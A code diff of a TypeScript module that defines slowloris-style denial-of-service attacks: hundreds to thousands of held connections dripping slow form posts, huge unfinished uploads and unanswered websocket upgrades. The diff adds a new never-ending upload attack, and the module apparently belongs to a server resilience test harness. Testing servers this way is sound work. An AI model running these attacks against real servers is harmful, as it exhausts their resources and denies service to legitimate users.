@@ -1,13 +1,11 @@
 // What one address can do to a server. Each attack goes on until it is told to stop.
-import { connect, type Socket } from "node:net";
-import { addresses, type Target } from "./load.ts";
+import type { Socket } from "node:net";
+import { addresses, openSocket, originOf, type Target } from "./http-client.ts";
 
 export type Attack = { name: string; start(target: Target): () => void };
 
-const attacker = "203.0.113.1";
-
-const postHead = ({ host }: Target, length: number) =>
-  `POST /auth HTTP/1.1\r\nhost: ${host}\r\norigin: http://${host}\r\nx-forwarded-for: ${attacker}\r\n` +
+const postHead = (target: Target, path: string, length: number) =>
+  `POST ${path} HTTP/1.1\r\nhost: ${target.host}\r\norigin: ${originOf(target)}\r\n` +
   `content-type: multipart/form-data; boundary=b\r\ncontent-length: ${length}\r\n\r\n`;
 
 /** Keeps a fixed number of connections busy; one that was closed is opened again. */
@@ -15,11 +13,11 @@ function keepOpen(count: number, target: Target, begin: (socket: Socket) => void
   const sockets = new Set<Socket>();
   let isStopped = false;
   const open = () => {
-    const socket = connect({ port: target.port, host: "127.0.0.1", localAddress: addresses.attacker });
+    const socket = openSocket(target, addresses.attacker);
     sockets.add(socket);
     socket.on("error", () => undefined);
     socket.on("data", () => undefined);
-    socket.once("connect", () => begin(socket));
+    socket.once(target.isSecure ? "secureConnect" : "connect", () => begin(socket));
     socket.once("close", () => {
       sockets.delete(socket);
       if (!isStopped) setTimeout(open, 250);
@@ -43,7 +41,7 @@ export const attacks: readonly Attack[] = [
     name: "400 slow forms",
     start: (target) =>
       keepOpen(400, target, (socket) => {
-        socket.write(postHead(target, 60_000));
+        socket.write(postHead(target, "/auth", 60_000));
         drip(socket, Buffer.from("a"), 2_000);
       }),
   },
@@ -51,8 +49,16 @@ export const attacks: readonly Attack[] = [
     name: "60 unfinished forms of 9.5 MB",
     start: (target) =>
       keepOpen(60, target, (socket) => {
-        socket.write(postHead(target, 9_500_000));
+        socket.write(postHead(target, "/auth", 9_500_000));
         drip(socket, Buffer.alloc(190_000, 0x61), 20);
+      }),
+  },
+  {
+    name: "100 uploads that never end",
+    start: (target) =>
+      keepOpen(100, target, (socket) => {
+        socket.write(postHead(target, "/api/documents", 39_000_000));
+        drip(socket, Buffer.alloc(20_000, 0x61), 2_000);
       }),
   },
   {
@@ -60,7 +66,7 @@ export const attacks: readonly Attack[] = [
     start: (target) =>
       keepOpen(3_000, target, (socket) => {
         socket.write(
-          `GET /auth HTTP/1.1\r\nhost: ${target.host}\r\nx-forwarded-for: ${attacker}\r\n` +
+          `GET /auth HTTP/1.1\r\nhost: ${target.host}\r\n` +
             "connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: YQ==\r\n\r\n",
         );
       }),
